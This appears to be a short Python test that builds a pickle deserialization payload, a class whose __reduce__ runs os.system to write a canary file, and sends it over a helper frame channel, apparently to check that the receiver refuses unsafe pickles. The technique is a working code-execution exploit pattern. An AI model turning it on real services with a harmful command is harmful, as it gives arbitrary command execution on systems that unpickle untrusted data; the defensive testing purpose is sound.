# due: refused 0
import os
import pickle

from helpers.checks import frames


class Bomb:
    def __reduce__(self):
        return os.system, ("echo gone > CANARY",)


frames.send(3, b"o" + pickle.dumps(Bomb()))
os._exit(0)
